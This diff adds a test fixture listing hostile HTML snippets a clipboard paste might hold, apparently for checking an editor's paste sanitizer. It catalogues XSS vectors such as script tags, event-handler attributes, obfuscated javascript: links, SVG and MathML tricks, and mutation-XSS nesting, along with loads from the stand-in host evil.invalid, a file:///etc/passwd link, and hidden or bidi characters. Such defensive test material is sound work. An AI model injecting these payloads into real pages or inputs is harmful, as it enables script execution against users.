@@ -1,0 +1,63 @@
+/** Markup that means harm, as a clipboard may hold it. Each tries to run `harm()`, to load from evil.invalid, or to hide words. */
+
+const RUN = "window.harm='run'"
+const LOAD = 'https://evil.invalid/x'
+
+/** By what they try; 云 is the copy that must come in wherever the paste has any. */
+export const HOSTILE: readonly (readonly [tries: string, html: string])[] = [
+  ['a script', `<p>云</p><script>${RUN}</script>`],
+  ['a script from elsewhere', `<p>云</p><script src="${LOAD}.js"></script>`],
+  ['a script in a comment of Word', `<!--[if gte mso 9]><script>${RUN}</script><![endif]--><p>云</p>`],
+  ['an error handler', `<p>云<img src=x onerror="${RUN}"></p>`],
+  ['a broken picture without quotes', `<p>云<img/src=x/onerror=${RUN}></p>`],
+  ['a picture from elsewhere', `<p>云<img src="${LOAD}.png" srcset="${LOAD}2.png 2x"></p>`],
+  ['a lazy picture', `<p>云<img loading=eager data-src="${LOAD}" src="${LOAD}"></p>`],
+  ['SVG that loads', `<p>云</p><svg onload="${RUN}"><script>${RUN}</script></svg>`],
+  [
+    'SVG with a foreign object',
+    `<svg><foreignObject><iframe src="javascript:${RUN}"></iframe></foreignObject></svg><p>云</p>`,
+  ],
+  ['SVG that is animated', `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg><p>云</p>`],
+  ['a use of a drawing elsewhere', `<svg><use href="${LOAD}#a"></use></svg><p>云</p>`],
+  ['mathematics', `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction></math><p>云</p>`],
+  ['a frame', `<p>云</p><iframe src="${LOAD}"></iframe>`],
+  ['a frame with its own page', `<p>云</p><iframe srcdoc="<script>parent.harm=1</script>"></iframe>`],
+  ['an object', `<p>云</p><object data="${LOAD}" type="text/html"></object>`],
+  ['an embed', `<p>云</p><embed src="${LOAD}.swf">`],
+  ['a link that runs', `<p><a href="javascript:${RUN}">云</a></p>`],
+  ['a link that runs, spelt with entities', `<p><a href="&#106;avascript&colon;${RUN}">云</a></p>`],
+  ['a link that runs, with a tab in it', `<p><a href="java&Tab;script:${RUN}">云</a></p>`],
+  ['a link of data', `<p><a href="data:text/html,<script>${RUN}</script>">云</a></p>`],
+  ['a link to a file', `<p><a href="file:///etc/passwd">云</a></p>`],
+  ['a link of VBScript', `<p><a href="vbscript:msgbox(1)">云</a></p>`],
+  ['a style that loads', `<p style="background:url(${LOAD})">云</p>`],
+  ['a style sheet', `<style>@import '${LOAD}.css'; p { background: url(${LOAD}) }</style><p>云</p>`],
+  ['a linked style sheet', `<link rel=stylesheet href="${LOAD}.css"><p>云</p>`],
+  ['a preload', `<link rel=preload as=image href="${LOAD}.png"><p>云</p>`],
+  ['a refresh', `<meta http-equiv=refresh content="0;url=${LOAD}"><p>云</p>`],
+  ['a base', `<base href="https://evil.invalid/"><p><a href="/x">云</a></p>`],
+  [
+    'a form',
+    `<form action="${LOAD}"><input name=a autofocus onfocus="${RUN}"><button formaction="javascript:${RUN}">go</button></form><p>云</p>`,
+  ],
+  ['a video', `<p>云</p><video src="${LOAD}.mp4" poster="${LOAD}.jpg" autoplay onloadstart="${RUN}"></video>`],
+  ['a sound', `<p>云</p><audio src="${LOAD}.mp3" autoplay onerror="${RUN}"></audio>`],
+  ['details that toggle', `<details open ontoggle="${RUN}"><summary>云</summary></details>`],
+  ['a marquee', `<marquee onstart="${RUN}">云</marquee>`],
+  ['broken nesting of tables and styles', `<table><style><img src=x onerror="${RUN}"></style></table><p>云</p>`],
+  [
+    'a noscript that is parsed twice',
+    `<noscript><p title="</noscript><img src=x onerror=${RUN}>">云</p></noscript><p>云</p>`,
+  ],
+  ['a template', `<template><img src=x onerror="${RUN}"></template><p>云</p>`],
+  ['our own markup with a handler', `<p data-pm-slice="1 1 []" data-line="paragraph" onclick="${RUN}">云</p>`],
+  ['our own markup of a type that is none', `<p data-line="constructor" data-role="__proto__">云</p>`],
+  ['a mark that names somebody', `<p><ins data-by="x" data-at="y">云</ins></p>`],
+  ['words that run backwards', `<p>云\u202egnp.exe\u202c</p>`],
+  ['words that cannot be seen', `<p>云\u200b\u2060\ufeff\u00ad\u2066x\u2069</p>`],
+  ['words in tags that cannot be seen', `<p>云\u{e0041}\u{e0042}</p>`],
+  ['controls', `<p>云&#1;&#8;&#27;[31m</p>`],
+  ['half a character', `<p>云&#xd800;</p>`],
+  ['words that are not shown', `<p>云<span style="display:none">HIDDEN</span><span hidden>HIDDEN</span></p>`],
+  ['two thousand elements inside one another', `${'<div><b>'.repeat(2000)}云${'</b></div>'.repeat(2000)}`],
+]
